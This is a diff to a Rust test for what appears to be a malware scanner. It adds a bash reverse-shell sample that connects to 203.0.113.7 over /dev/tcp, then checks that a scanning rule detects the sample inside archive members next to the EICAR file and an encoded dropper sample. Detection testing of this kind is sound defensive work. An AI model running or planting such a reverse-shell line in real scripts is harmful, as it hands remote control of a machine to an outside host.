@@ -123,18 +123,22 @@ fn limits_of(scan: &Scan, path: &std::path::Path) -> Vec<(Vec<String>, String, V
 
 const EICAR_RULE: &str = "eicar.EICAR_Test_File";
 const PLUGIN_RULE: &str = "obfuscated-script";
+const SHELL_RULE: &str = "reverse_shells.ReverseShell_DevTcp";
+/// A bash reverse shell, which a default rule detects.
+const REVERSE_SHELL: &[u8] = b"#!/bin/bash\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n";
 
 fn strings(names: &[&str]) -> Vec<String> {
     names.iter().map(|n| n.to_string()).collect()
 }
 
 #[test]
-fn eicar_and_a_plugin_sample_are_found_inside_every_format_and_named_by_member() {
+fn eicar_a_rule_sample_and_a_plugin_sample_are_found_inside_every_format_by_member() {
     let sandbox = Sandbox::new();
     let (eicar, dropper) = (eicar(), encoded_dropper_js());
-    let pair: [(&str, &[u8]); 3] = [
+    let pair: [(&str, &[u8]); 4] = [
         ("docs/readme.txt", b"nothing to see"),
         ("bin/eicar.com", &eicar),
+        ("scripts/connect.sh", REVERSE_SHELL),
         ("web/loader.js", dropper.as_bytes()),
     ];
     let tar = tar_of(&pair);
@@ -180,10 +184,17 @@ fn eicar_and_a_plugin_sample_are_found_inside_every_format_and_named_by_member()
             chain.push(inner.into());
             chain
         };
+        // Only what members gave: a tar or a stored zip also match as bytes, for the rules
+        // whose text is not compressed in them.
+        let from_members: Vec<_> = found_in(&scan, path)
+            .into_iter()
+            .filter(|(chain, _)| !chain.is_empty())
+            .collect();
         assert_eq!(
-            found_in(&scan, path),
+            from_members,
             vec![
                 (chain("bin/eicar.com"), EICAR_RULE.into()),
+                (chain("scripts/connect.sh"), SHELL_RULE.into()),
                 (chain("web/loader.js"), PLUGIN_RULE.into()),
             ],
             "{name}: {:?}",
@@ -192,8 +203,8 @@ fn eicar_and_a_plugin_sample_are_found_inside_every_format_and_named_by_member()
     }
     assert_eq!(scan.of_type("limit"), Vec::<&Value>::new());
     let summary = scan.summary();
-    // Three members each (a compressed tar is read as it is decoded, not as a member).
-    assert_eq!(summary["members_scanned"], 15 * 3);
+    // Four members each (a compressed tar is read as it is decoded, not as a member).
+    assert_eq!(summary["members_scanned"], 15 * 4);
     assert_eq!(summary["files_scanned"], 15);
 }
 
